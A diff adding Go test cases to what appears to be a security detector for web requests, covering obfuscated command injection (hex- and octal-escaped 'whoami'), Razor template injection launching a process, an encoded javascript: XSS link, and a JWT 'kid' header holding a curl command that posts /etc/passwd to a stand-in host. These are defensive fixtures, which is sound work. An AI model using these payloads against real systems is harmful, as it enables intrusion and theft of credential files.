@@ -5,6 +5,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/golang-jwt/jwt/v5"
+
 	"github.com/vigilsec/vigil"
 )
 
@@ -201,5 +203,23 @@ func TestFilterBypassAndReplacedSlashes(t *testing.T) {
 	runCases(t, NewOther(), "detect.injection.other", []detCase{
 		{"overlong slashes decoded to U+FFFD", ex("POST", "https://a.test/f", body("application/json", "{\"f\":\"..\uFFFD..\uFFFD..\uFFFDwin.ini\"}")), techTraversal},
 		{"benign mojibake", ex("POST", "https://a.test/f", body("application/json", "{\"c\":\"Caf\uFFFD.. open at 9\"}")), ""},
+	})
+}
+
+func TestMoreHiddenForms(t *testing.T) {
+	runCases(t, NewOther(), "detect.injection.other", []detCase{
+		{"ansi-c quoted command", ex("POST", "https://a.test/p", body("application/json", `{"note":"x;$'\\x77\\x68\\x6f\\x61\\x6d\\x69'"}`)), "escapes"},
+		{"ansi-c octal", ex("GET", "https://a.test/p?h=1%7C%24%27%5C151%5C144%27"), "escapes"},
+		{"razor process start in a path", ex("GET", "https://a.test/b/@(System.Diagnostics.Process.Start(%22calc%22))/x"), techSSTI},
+		{"benign dollar quote", ex("POST", "https://a.test/p", body("application/json", `{"note":"price; $'5' off"}`)), ""},
+		{"benign razor-like email", ex("POST", "https://a.test/p", body("application/json", `{"note":"mail me @(home) later"}`)), ""},
+	})
+	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
+		{"script url in an attribute, with a character reference", ex("GET", "https://a.test/", hdr("X-Api-Version", `<a href="jav&#x09;ascript:alert(1)">x</a>`)), "attribute holds a script URL"},
+		{"benign link markup", ex("POST", "https://a.test/r", body("application/json", `{"c":"<a href=\"https://docs.example/a?b=c\">docs</a>"}`)), ""},
+	})
+	kid := tok(t, map[string]any{"alg": "HS256", "kid": "k1 && curl -d @/etc/passwd x.test"}, jwt.MapClaims{"sub": "u1"}, "c2ln")
+	runCases(t, NewJWT(JWTConfig{}), "detect.auth.jwt", []detCase{
+		{"kid with &&", ex("GET", "https://a.test/", hdr("Authorization", "Bearer "+kid), resp(401, "")), "shell"},
 	})
 }
